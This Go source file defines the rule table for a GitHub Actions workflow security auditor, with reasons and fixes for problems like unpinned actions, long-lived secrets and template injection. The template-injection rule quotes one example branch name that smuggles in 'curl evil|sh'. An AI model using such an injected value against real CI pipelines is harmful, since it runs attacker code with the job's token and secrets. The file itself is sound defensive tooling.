package audit

// Rule describes one workflow anti-pattern: what it is, why it matters and
// how to fix it. The ids and their definitions are those of the labelled
// corpus in testdata/audit-corpus/README.md.
type Rule struct {
	ID    string
	Title string
	// Why says what an attacker or an accident gains from it.
	Why string
	// Fix says what to change.
	Fix string
	// Base is the severity off the release path; on it, one step higher.
	Base Severity
}

// Rules are the workflow rules, in the order they are reported.
var Rules = []Rule{
	{
		ID:    "unpinned-action",
		Title: "Third-party action not pinned to a commit",
		Why:   "A tag or branch of someone else's repository can be moved to new code at any time; the next run executes it with this job's token and secrets.",
		Fix:   "Pin the action to the full 40-hex commit SHA of the release you reviewed, with the tag in a comment (uses: owner/action@<sha> # v1.2.3), and let Dependabot or Renovate propose updates.",
		Base:  SeverityMedium,
	},
	{
		ID:    "unpinned-first-party-action",
		Title: "GitHub-owned action not pinned to a commit",
		Why:   "actions/* and github/* tags are mutable too; a compromised or mistaken tag move runs in every workflow that names it.",
		Fix:   "Pin to the full commit SHA with the tag in a comment (uses: actions/checkout@<sha> # v4.2.2).",
		Base:  SeverityLow,
	},
	{
		ID:    "tag-promotion",
		Title: "Release promoted by a mutable tag",
		Why:   "A tag names whatever was pushed to it last: what was built, scanned or approved is not provably what is deployed, and anyone who can push the tag changes the deployment.",
		Fix:   "Deploy, sign and promote by digest (image@sha256:…): take the digest from the build step's output and pass it through; keep tags for people, never for decisions.",
		Base:  SeverityMedium,
	},
	{
		ID:    "self-hosted-release",
		Title: "Release built on a self-hosted runner",
		Why:   "A self-hosted runner keeps state between jobs and is reachable by other workflows; a release built there cannot claim an isolated, ephemeral build (SLSA Build L3).",
		Fix:   "Build, sign and publish releases on GitHub-hosted runners (or ephemeral, single-use runners you can attest to); keep self-hosted runners for tests.",
		Base:  SeverityMedium,
	},
	{
		ID:    "long-lived-secret",
		Title: "Long-lived credential outside a protected environment",
		Why:   "A repository secret is readable by any workflow on any branch a writer can push; a signing key, cloud key or registry password there is one workflow edit away from being used or stolen.",
		Fix:   "Replace it with OIDC (cloud roles, trusted publishing, keyless signing); if a secret must stay, move it into a GitHub environment with required reviewers and run this job in it.",
		Base:  SeverityMedium,
	},
	{
		ID:    "deploy-without-environment",
		Title: "Deployment or publication without an environment",
		Why:   "Without environment:, no reviewer, branch rule or deployment protection rule stands between a push and production or a public registry.",
		Fix:   "Add environment: <name> to the job and give the environment required reviewers, a deployment branch or tag rule and relproof's protection rule.",
		Base:  SeverityMedium,
	},
	{
		ID:    "attest-not-verified",
		Title: "Provenance generated but not checked at deployment",
		Why:   "A signature or attestation nobody verifies before promotion protects nothing: a swapped artifact is published all the same.",
		Fix:   "Verify before promoting (relproof verify, gh attestation verify, cosign verify-attestation or slsa-verifier) with the expected builder identity and the artifact's digest, or gate the deployment with relproof's gate-environment.",
		Base:  SeverityMedium,
	},
	{
		ID:    "pr-target-checkout",
		Title: "Untrusted pull-request code checked out in a privileged workflow",
		Why:   "pull_request_target, workflow_run and dispatch-command runs have the base repository's secrets and a writable token; checking out the pull request's head lets its author run code with them.",
		Fix:   "Run the pull request's code under the pull_request trigger (no secrets), or check it out only in a job with read-only permissions and no secrets, and pass results on as artifacts.",
		Base:  SeverityHigh,
	},
	{
		ID:    "template-injection",
		Title: "Attacker-controlled text expanded into a script",
		Why:   "${{ }} is substituted into the script before the shell runs it; a branch name or title such as a\";curl evil|sh;\" becomes code running with the job's token.",
		Fix:   "Pass the value through env: (env: { BRANCH: ${{ github.event.pull_request.head.ref }} }) and use \"$BRANCH\" in the script.",
		Base:  SeverityHigh,
	},
	{
		ID:    "missing-permissions",
		Title: "Job runs with the default token permissions",
		Why:   "Without permissions:, the job's GITHUB_TOKEN gets the repository default, which may be write-all; any step can then push code, tags or releases.",
		Fix:   "Set permissions: {} (or contents: read) at the top of the workflow and grant each job only what it needs.",
		Base:  SeverityLow,
	},
	{
		ID:    "scan-not-by-digest",
		Title: "Image scanned by tag, not by the digest that was pushed",
		Why:   "A tag can move between the push and the scan; the result then speaks for another image than the one released.",
		Fix:   "Scan image@sha256:… using the digest output of the push step.",
		Base:  SeverityLow,
	},
}

// RuleByID finds a rule.
func RuleByID(id string) (Rule, bool) {
	for _, r := range Rules {
		if r.ID == id {
			return r, true
		}
	}
	return Rule{}, false
}
